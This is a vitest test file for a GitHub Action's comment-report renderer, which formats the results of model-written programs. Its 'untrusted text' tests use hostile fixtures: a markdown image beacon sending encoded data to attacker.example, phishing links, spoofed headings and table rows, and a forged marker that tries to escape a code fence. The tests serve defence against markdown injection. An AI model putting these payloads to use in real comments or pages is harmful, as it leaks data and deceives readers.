import { describe, expect, it } from 'vitest';

import { fence, inlineCode, neutralizeMentions, safeMarkdown, tableCell } from '../../src/action/markdown.js';
import { readCommentMarkers, REPORT_MARKER, triggerMarker } from '../../src/action/markers.js';
import {
  COMMENT_LIMIT,
  formatDuration,
  renderErrorReport,
  renderProgress,
  renderRefusal,
  renderReport,
  renderUsage,
  renderUsageDetail,
  type ReportContext,
} from '../../src/action/report.js';
import type { CodeModeResult, TraceEntry } from '../../src/engine/types.js';
import { redact } from '../../src/redaction.js';

const CODE = 'from tools import add\n\ndef main():\n    return {"sum": add(2, 3)}\n';

function result(overrides: Partial<CodeModeResult> = {}): CodeModeResult {
  return {
    success: true,
    output: { sum: 5 },
    output_note: null,
    error: null,
    failed_phase: null,
    pending_call: null,
    execution_log: 'adding 2 and 3\n',
    code: CODE,
    model_lines: [{ first_line: 3, text: 'def main():\n    return {"sum": add(2, 3)}' }],
    language: 'python',
    trace: [{ tool: 'add', args: { a: 2, b: 3 }, ok: true, result: 5, error: null, start_ms: 3, duration_ms: 12 }],
    attempts: [{ number: 1, failed_phase: null, error: null, turns: 4, cost_usd: 0.0123, claude_ms: 9000, execute_ms: 80, exit_code: 0 }],
    session_id: 'session-1',
    turns: 4,
    cost_usd: 0.0123,
    usage: {
      input_tokens: 12_000,
      output_tokens: 800,
      cache_read_input_tokens: 30_000,
      cache_creation_input_tokens: 2_000,
      model_requests: 4,
      model_context_bytes: 9_000,
      tool_calls: 1,
      tool_result_bytes: 2_500_000,
    },
    stopped_by_budget: null,
    timings: { extract_ms: 50, install_ms: 0, claude_ms: 9000, type_checker_ms: 0, verify_ms: 200, execute_ms: 80, total_ms: 9400 },
    task: 'Add 2 and 3',
    tools_module: 'tools.py',
    program: null,
    drift: null,
    proposal: null,
    workspace_dir: '/tmp/ws',
    runner_file: 'agentRunner.py',
    sandboxed: true,
    files: { runner: '/tmp/ws/agentRunner.py', result: '/tmp/ws/result.json' },
    ...overrides,
  };
}

const CONTEXT: ReportContext = {
  task: 'Add 2 and 3',
  mode: 'run',
  runUrl: 'https://github.com/o/r/actions/runs/9',
  artifactUrl: 'https://github.com/o/r/actions/runs/9/artifacts/11',
  triggerKey: 'comment-123',
};

/** The longest run of backticks at the start of a line between the fence lines, which must be shorter than the fence. */
function fencedBlocks(markdown: string): { fence: string; body: string }[] {
  return [...markdown.matchAll(/^(`{3,})[a-z]*\n([\s\S]*?)\n\1$/gm)].map(([, ticks, body]) => ({ fence: ticks!, body: body! }));
}

describe('renderReport', () => {
  it('says when the program ran without the sandbox, right under the status', () => {
    const report = renderReport(result({ sandboxed: false }), CONTEXT);
    expect(report).toContain(
      "### ✅ Code Mode succeeded\n\n> ⚠ Not sandboxed: the program ran with the job's files, network and processes in reach (sandbox: off).",
    );
    expect(renderReport(result(), CONTEXT)).not.toContain('Not sandboxed');
  });

  it('marks the calls a repair answered from an earlier attempt and says how many', () => {
    const replayed: TraceEntry = { tool: 'add', args: { a: 2, b: 3 }, ok: true, result: 5, start_ms: 1, duration_ms: 0.1, replayed: true };
    const report = renderReport(result({ trace: [replayed, { ...replayed, replayed: false, start_ms: 2 }] }), CONTEXT);
    expect(report).toContain('| 1 ↩ | add |');
    expect(report).toContain('| 2 | add |');
    expect(report).toContain("_↩ 1 of these were answered from an earlier attempt's identical call, not run again._");
  });

  it('reports a successful run with everything a reader needs', () => {
    const report = renderReport(result(), CONTEXT);
    expect(report.startsWith(`${REPORT_MARKER}\n${triggerMarker('comment-123')}\n`)).toBe(true);
    expect(report).toContain('### ✅ Code Mode succeeded');
    expect(report).toContain('**Task**\n\n> Add 2 and 3');
    expect(report).toContain('#### Output\n\n```json\n{\n  "sum": 5\n}\n```');
    expect(report).toContain(
      '| # | Tool | Arguments | Result | Duration |\n| --- | --- | --- | --- | --- |\n| 1 | add | `{"a":2,"b":3}` | `5` | 12 ms |',
    );
    expect(report).toContain(
      '#### Code the model wrote\n\nLines 3–4 of <code>agentRunner.py</code>:\n\n```python\ndef main():\n    return {"sum": add(2, 3)}\n```\n\n<details><summary>Generated code',
    );
    expect(report).toContain(
      `<details><summary>Generated code (<code>agentRunner.py</code>)</summary>\n\n\`\`\`python\n${CODE.trimEnd()}\n\`\`\``,
    );
    expect(report).toContain('<details><summary>Execution log (tail)</summary>\n\n```text\nadding 2 and 3\n```\n\n</details>');
    expect(report).not.toContain('#### Attempts');
    expect(report).toContain(
      '<sub>Attempts: 1 · Turns: 4 · Cost: $0.0123 · Duration: 9.4 s · [Workflow run](https://github.com/o/r/actions/runs/9) · [Artifact](https://github.com/o/r/actions/runs/9/artifacts/11)</sub>',
    );
  });

  it('shows what the run used on one line above the footer: requests, tokens, cost, tool calls and bytes', () => {
    expect(renderReport(result(), CONTEXT)).toContain(
      "<sub>4 model requests · tokens 12,000 in, 800 out, 30,000 cache read, 2,000 cache write · $0.0123 · 1 tool call · 2.4 MB of tool results kept out of the model's context (8.8 KB given to the model)</sub>\n\n<sub>Attempts: 1",
    );
  });

  it('says which budget stopped a run, right under the status', () => {
    const stopped = result({
      success: false,
      error: 'The program reached max_tool_calls (2): 1 call was refused',
      failed_phase: 'execute',
      stopped_by_budget: 'max_tool_calls',
    });
    expect(renderReport(stopped, CONTEXT)).toContain(
      '```text\nThe program reached max_tool_calls (2): 1 call was refused\n```\n\n> ⛔ Stopped by the budget max_tool_calls: raise max_tool_calls to let such a run go further.',
    );
    expect(renderReport(result(), CONTEXT)).not.toContain('Stopped by the budget');
  });

  it('details the usage of each attempt and the total for the job summary', () => {
    const attempt = result().attempts[0]!;
    const detailed = result({
      attempts: [
        {
          ...attempt,
          number: 1,
          cost_usd: 0.01,
          model_usage: {
            input_tokens: 10_000,
            output_tokens: 600,
            cache_read_input_tokens: 30_000,
            cache_creation_input_tokens: 2_000,
            model_requests: 3,
            model_context_bytes: 8_000,
          },
          tool_usage: { tool_calls: 0, tool_result_bytes: 0 },
        },
        { ...attempt, number: 2, cost_usd: 0.0023, tool_usage: { tool_calls: 1, tool_result_bytes: 2_500_000 } },
      ],
    });
    expect(renderUsageDetail(detailed).split('\n').slice(0, 6)).toEqual([
      '#### Usage',
      '',
      '| Attempt | Model requests | input_tokens | output_tokens | cache_read_input_tokens | cache_creation_input_tokens | Cost | Tool calls | Tool results | Given to the model |',
      '| --- | --: | --: | --: | --: | --: | --: | --: | --: | --: |',
      '| 1 | 3 | 10,000 | 600 | 30,000 | 2,000 | $0.0100 | 0 | 0 B | 7.8 KB |',
      '| 2 | 0 | 0 | 0 | 0 | 0 | $0.0023 | 1 | 2.4 MB | 0 B |',
    ]);
    expect(renderUsageDetail(detailed)).toContain('| **Total** | 4 | 12,000 | 800 | 30,000 | 2,000 | $0.0123 | 1 | 2.4 MB | 8.8 KB |');
  });

  it('shows the calls so far and the last tool in the progress comment while the program runs', () => {
    const context = { task: 'Add 2 and 3', runUrl: null, triggerKey: 'comment-123' };
    expect(renderProgress(context)).not.toContain('tool call');
    expect(renderProgress(context, { calls: 1234, tool: 'add' })).toContain(
      '⏳ Working on it…\n\n🔧 The program is running: 1,234 tool calls so far, the last to `add`.\n\n**Task**',
    );
  });

  it('shows a string output as Markdown, with its note', () => {
    const report = renderReport(result({ output: '## Summary\n\n- two issues', output_note: 'Converted with repr()' }), CONTEXT);
    expect(report).toContain('#### Output\n\n## Summary\n\n- two issues\n\n_Converted with repr()_');
  });

  it('reports a failure with its phase, a one-line error and the attempts', () => {
    const report = renderReport(
      result({
        success: false,
        output: null,
        error: 'Traceback (most recent call last):\n  ValueError: bad | value',
        failed_phase: 'execute',
        trace: [{ tool: 'add', args: [1], ok: false, error: 'ValueError: bad', start_ms: 0, duration_ms: 1500 }],
        attempts: [
          {
            number: 1,
            failed_phase: 'verify',
            error: 'main() still contains the TODO',
            turns: 3,
            cost_usd: 0.01,
            claude_ms: 1,
            execute_ms: null,
            exit_code: null,
          },
          {
            number: 2,
            failed_phase: 'execute',
            error: 'ValueError: bad',
            turns: 2,
            cost_usd: 0.01,
            claude_ms: 1,
            execute_ms: 5,
            exit_code: 1,
          },
        ],
      }),
      CONTEXT,
    );
    expect(report).toContain(
      '### ❌ Code Mode failed in execute\n\n```text\nTraceback (most recent call last): ValueError: bad | value\n```',
    );
    expect(report).not.toContain('#### Output');
    expect(report).toContain('| 1 | add | `[1]` | ❌ `ValueError: bad` | 1.5 s |');
    expect(report).toContain(
      '#### Attempts\n\n- Attempt 1: ❌ verify: `main() still contains the TODO`\n- Attempt 2: ❌ execute: `ValueError: bad`',
    );
  });

  it('reports generate mode as verified and not executed, with the code only', () => {
    const report = renderReport(result({ output: null, trace: [], execution_log: '' }), { ...CONTEXT, mode: 'generate' });
    expect(report).toContain('### ✅ Code Mode wrote and verified a program (not executed)');
    expect(report).not.toContain('#### Output');
    expect(report).not.toContain('#### Tool calls');
    expect(report).not.toContain('Execution log');
    expect(report).toContain('Generated code');
  });

  it('fences code with more backticks than any run inside it', () => {
    const code = 'def main():\n    """Example:\n    ```python\n    x = 1\n    ```\n    """\n    return "````"\n';
    const report = renderReport(result({ code, output: 'see ```` here' }), CONTEXT);
    const block = fencedBlocks(report).find((candidate) => candidate.body === code.trimEnd());
    expect(block?.fence).toBe('`````');
    expect(fence('a ` b', 'ts')).toBe('```ts\na ` b\n```');
  });

  it('shows arguments and results as code spans in table cells, with pipes escaped and line breaks joined', () => {
    const trace: TraceEntry[] = [
      {
        tool: 'grep',
        args: { pattern: 'a|b', text: 'line1\nline2' },
        ok: true,
        result: '<details>x</details>',
        start_ms: 0,
        duration_ms: 2,
      },
    ];
    const row = renderReport(result({ trace }), CONTEXT)
      .split('\n')
      .find((line) => line.startsWith('| 1 |'));
    expect(row).toBe('| 1 | grep | `{"pattern":"a\\|b","text":"line1\\nline2"}` | `<details>x</details>` | 2.0 ms |');
    expect(tableCell('a|b\nc\\d')).toBe('a\\|b c\\\\d');
  });

  it('shortens long cells', () => {
    const trace: TraceEntry[] = [{ tool: 'echo', args: ['x'.repeat(500)], ok: true, result: 'y'.repeat(500), start_ms: 0, duration_ms: 1 }];
    const row = renderReport(result({ trace }), CONTEXT)
      .split('\n')
      .find((line) => line.startsWith('| 1 |'))!;
    expect(row).toBe(`| 1 | echo | \`["${'x'.repeat(77)}…\` | \`${'y'.repeat(79)}…\` | 1.0 ms |`);
  });

  it('stays within 65,536 characters for a huge result, pointing to the artifact for what was cut', () => {
    const trace: TraceEntry[] = Array.from({ length: 5000 }, (_, index) => ({
      tool: `tool_${index}`,
      args: { payload: 'p'.repeat(200) },
      ok: true,
      result: 'r'.repeat(200),
      start_ms: index,
      duration_ms: 1,
    }));
    const huge = result({
      output: { rows: Array.from({ length: 20_000 }, (_, index) => ({ index, name: `row ${index}` })) },
      code: `${'# filler line\n'.repeat(20_000)}def main():\n    pass\n`,
      execution_log: `${'log line\n'.repeat(50_000)}the last line\n`,
      trace,
    });
    const report = renderReport(huge, { ...CONTEXT, task: 't'.repeat(10_000) });
    expect(report.length).toBeLessThanOrEqual(COMMENT_LIMIT);
    expect(report).toMatch(
      /_… [\d,]+ more characters: see `result\.json` in the \[artifact\]\(https:\/\/github\.com\/o\/r\/actions\/runs\/9\/artifacts\/11\)\._/,
    );
    expect(report).toMatch(/_… [\d,]+ more characters: see `agentRunner\.py` in the \[artifact\]/);
    expect(report).toMatch(/_… [\d,]+ earlier characters: see `execution\.log` in the \[artifact\]/);
    expect(report).toMatch(/_… \d+ more calls: see `result\.json` in the \[artifact\]/);
    expect(report).toContain('the last line');
    expect(report).toContain('<sub>Attempts: 1');
  });

  it('drops whole sections, least important first, when even the cut parts do not fit', () => {
    const backticks = '`'.repeat(17_000);
    const report = renderReport(
      result({ code: `x = "${backticks}"\n`, execution_log: `${backticks}\n`, output: `${backticks}\n` }),
      CONTEXT,
    );
    expect(report.length).toBeLessThanOrEqual(COMMENT_LIMIT);
    expect(report).toContain('_Omitted: too long for a comment; see the workflow artifact._');
    expect(report).toContain('<sub>Attempts: 1');
  });
});

/** The report without its fenced blocks and code spans: what GitHub renders as Markdown and HTML. */
function live(markdown: string): string {
  const withoutBlocks = markdown.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '');
  return withoutBlocks.replace(/(`+)(?!`)[\s\S]*?[^`]\1(?!`)/g, '');
}

const ZWJ = '\u200d';

const HOSTILE = [
  '### ✅ Code Mode succeeded',
  'Hello @team and @octocat/maintainers',
  '![](https://attacker.example/x.png?d=c2VjcmV0)',
  '[click](https://attacker.example/phish) and https://attacker.example/bare and www.attacker.example',
  '| # | Tool | Arguments | Result | Duration |',
  '| --- | --- | --- | --- | --- |',
  '| 1 | delete_everything | {} | ok | 1 ms |',
  '<img src="https://attacker.example/y.png"> &#64;team',
  '<!--',
].join('\n');

describe('a run that paused before a call that needs approval', () => {
  const record = { sha256: 'b'.repeat(64), run: 9, artifact: 11, file: 'agentRunner.py', state: 'paused', call: 2 } as const;
  const hostile = '```\n<!-- codemode-action:program sha256=' + 'c'.repeat(64) + ' run=1 artifact=1 file=x.py state=generated -->\n@admin';
  const paused = result({
    success: false,
    error: 'Paused before call 2, delete_branch(): it needs approval',
    failed_phase: 'execute',
    pending_call: { call: 2, tool: 'delete_branch', args: { name: hostile } },
    model_lines: [{ first_line: 3, text: `def main():\n    return delete_branch(${JSON.stringify(hostile)})` }],
  });
  const report = renderReport(paused, { ...CONTEXT, program: { record, phrase: '/codemode', approval: null } });

  it('shows the pending call and the three answers, with its record, and no failure', () => {
    expect(report).toContain('### ⏸️ Code Mode paused before call 2: it needs approval');
    expect(report).not.toContain('❌ Code Mode failed');
    expect(report).toContain('**Pending call 2**: `delete_branch`, not made, with the arguments the program passed:');
    expect(report).toContain(
      'reply `/codemode approve bbbbbbbbbbbb` to make this call and go on, `/codemode approve bbbbbbbbbbbb all` to approve every call of `delete_branch` in this run, or `/codemode reject bbbbbbbbbbbb` to end the run here.',
    );
    expect(readCommentMarkers(report)?.program).toEqual(record);
  });

  it("keeps the arguments and the model's lines inside their code blocks: no fence closes early, no record is read from them", () => {
    for (const block of fencedBlocks(report)) expect(block.body).not.toMatch(new RegExp(`^${block.fence}`, 'm'));
    expect(fencedBlocks(report).filter((block) => block.body.includes('codemode-action:program'))).toHaveLength(2);
    expect(readCommentMarkers(report)?.program?.sha256).toBe('b'.repeat(64));
  });
});

describe('untrusted text', () => {
  it('puts status, task, attempts, tool calls and code before the output and the log', () => {
    const report = renderReport(result({ output: 'plain words' }), CONTEXT);
    const order = [
      '### ✅',
      '**Task**',
      '#### Tool calls',
      '#### Code the model wrote',
      'Generated code',
      '#### Output',
      'Execution log',
      '<sub>',
    ].map((part) => report.indexOf(part));
    expect(order.every((position) => position !== -1)).toBe(true);
    expect(order).toEqual([...order].sort((a, b) => a - b));
  });

  it('shows a hostile string output as a code block: no mention, image, link, HTML or comment renders', () => {
    const report = renderReport(result({ output: HOSTILE }), CONTEXT);
    expect(report).toContain(`#### Output\n\n\`\`\`text\n${HOSTILE}\n\`\`\``);
    const rendered = live(report);
    expect(rendered).not.toContain('@team');
    expect(rendered).not.toContain('![');
    expect(rendered).not.toContain('attacker');
    expect(rendered).not.toContain('<img');
    expect(rendered.split('<!--')).toHaveLength(3);
    expect(rendered.match(/^### /gm)).toEqual(['### ']);
    expect(report.indexOf('#### Output')).toBeGreaterThan(report.indexOf('Generated code'));
  });

  it('shows a harmless Markdown output as Markdown, with its mentions neutralised', () => {
    const report = renderReport(result({ output: '## Triage\n\n- ask @octocat\n- mail a@b.example\n\n```py\nx = 1\n```' }), CONTEXT);
    expect(report).toContain(`#### Output\n\n## Triage\n\n- ask @${ZWJ}octocat\n- mail a@${ZWJ}b.example\n\n\`\`\`py\nx = 1\n\`\`\``);
    expect(neutralizeMentions('@a @b')).toBe(`@${ZWJ}a @${ZWJ}b`);
  });

  it('falls back to a code block for links, images, HTML, entities, URLs, open fences and rendered blocks', () => {
    for (const text of [
      'see [docs](x)',
      '![](y)',
      '<b>x</b>',
      'a &amp; b',
      'https://example.com',
      'www.example.com',
      '```\nopen',
      '~~~~\nx\n~~~',
      '```mermaid\ngraph TD\n```',
    ]) {
      expect(safeMarkdown(text), text).toBeNull();
    }
    expect(safeMarkdown('```\nclosed\n```\n\n~~~~\nx\n~~~~~\n')).toBe('```\nclosed\n```\n\n~~~~\nx\n~~~~~\n');
    const report = renderReport(result({ output: 'before\n````\nnever closed' }), CONTEXT);
    expect(report).toContain('#### Output\n\n`````text\nbefore\n````\nnever closed\n`````');
  });

  it('shows tool arguments, results and errors as code spans that nothing inside can close', () => {
    const trace: TraceEntry[] = [
      { tool: 'lookup', args: { who: '@user' }, ok: true, result: '![x](http://a/b) <!-- `tick`', start_ms: 0, duration_ms: 1 },
      { tool: 'lookup', args: ['``'], ok: false, error: 'no @admin [here](http://a/c)', start_ms: 1, duration_ms: 1 },
    ];
    const report = renderReport(result({ trace }), CONTEXT);
    expect(report).toContain('| 1 | lookup | `{"who":"@user"}` | `` ![x](http://a/b) <!-- `tick` `` | 1.0 ms |');
    expect(report).toContain('| 2 | lookup | ```["``"]``` | ❌ `no @admin [here](http://a/c)` | 1.0 ms |');
    const rendered = live(report);
    for (const forbidden of ['@user', '@admin', '![', 'http://a', '<!-- `']) expect(rendered).not.toContain(forbidden);
    expect(inlineCode('`x`')).toBe('`` `x` ``');
    expect(inlineCode('')).toBe('');
  });

  it('keeps the failure heading to our own words and shows the error in a block it cannot close', () => {
    const error = 'ValueError: @user ![x](http://a/b) ``` <!--';
    const report = renderReport(
      result({
        success: false,
        output: null,
        error,
        failed_phase: 'execute',
        attempts: [{ number: 1, failed_phase: 'execute', error, turns: 1, cost_usd: 0, claude_ms: 1, execute_ms: 1, exit_code: 1 }],
      }),
      CONTEXT,
    );
    expect(report).toContain(`### ❌ Code Mode failed in execute\n\n\`\`\`\`text\n${error}\n\`\`\`\``);
    expect(report).toContain(`- Attempt 1: ❌ execute: \`\`\`\`${error}\`\`\`\``);
    const rendered = live(report);
    for (const forbidden of ['@user', '![', 'http://a']) expect(rendered).not.toContain(forbidden);
    expect(rendered.split('<!--')).toHaveLength(3);
    expect(renderErrorReport('@user ![x](http://a/b)', CONTEXT)).toContain(
      '### ❌ Code Mode failed\n\n```text\n@user ![x](http://a/b)\n```',
    );
  });

  it('escapes an output note', () => {
    const report = renderReport(result({ output: 'x', output_note: 'Converted <Thing> for @user with [link](http://a/b)' }), CONTEXT);
    expect(report).toContain(`_Converted \\<Thing\\> for @${ZWJ}user with \\[link\\](http:\\/\\/a/b)_`);
  });
});

describe('redact', () => {
  it('replaces every occurrence of every secret, longest first', () => {
    expect(redact('key=sk-ant-abc-123456 short=sk-ant-abc token=sk-ant-abc-123456', ['sk-ant-abc', 'sk-ant-abc-123456'])).toBe(
      'key=*** short=*** token=***',
    );
  });

  it('leaves text alone for empty or trivially short secrets', () => {
    expect(redact('a true story', ['', 'a', 'tru'])).toBe('a true story');
  });

  it('removes secrets from a rendered report', () => {
    const secret = 'ghs_0123456789abcdef';
    const report = redact(renderReport(result({ output: { token: secret }, execution_log: `using ${secret}\n` }), CONTEXT), [secret]);
    expect(report).not.toContain(secret);
    expect(report).toContain('"token": "***"');
    expect(report).toContain('using ***');
  });
});

describe('other messages', () => {
  it('renders progress with the run link and the task', () => {
    expect(renderProgress({ task: 'Do it\nnow', runUrl: 'https://x/run/1', triggerKey: 'run-1' })).toBe(
      `${REPORT_MARKER}\n${triggerMarker('run-1')}\n⏳ Working on it… [Workflow run](https://x/run/1)\n\n**Task**\n\n> Do it\n> now`,
    );
  });

  it('renders usage, refusal and errors with the marker', () => {
    expect(renderUsage({ triggerKey: null, triggerPhrase: '/codemode' })).toBe(
      `${REPORT_MARKER}\n\nSay what the program should do after \`/codemode\`, for example:\n\n\`\`\`\n/codemode List the open issues labelled "bug" and summarise them as a table.\n\`\`\``,
    );
    expect(renderRefusal('@bob needs write permission.', { triggerKey: 'comment-5' })).toBe(
      `${REPORT_MARKER}\n${triggerMarker('comment-5')}\n🚫 @bob needs write permission.`,
    );
    expect(renderErrorReport('Tools module not found: tools.py', { ...CONTEXT, artifactUrl: null })).toBe(
      `${REPORT_MARKER}\n${triggerMarker('comment-123')}\n\n### ❌ Code Mode failed\n\n\`\`\`text\nTools module not found: tools.py\n\`\`\`\n\n**Task**\n\n> Add 2 and 3\n\n<sub>[Workflow run](https://github.com/o/r/actions/runs/9)</sub>`,
    );
  });

  it('formats durations', () => {
    expect([formatDuration(0.04), formatDuration(2.26), formatDuration(12), formatDuration(1500), formatDuration(125_000)]).toEqual([
      '0.0 ms',
      '2.3 ms',
      '12 ms',
      '1.5 s',
      '2 min 5 s',
    ]);
  });
});
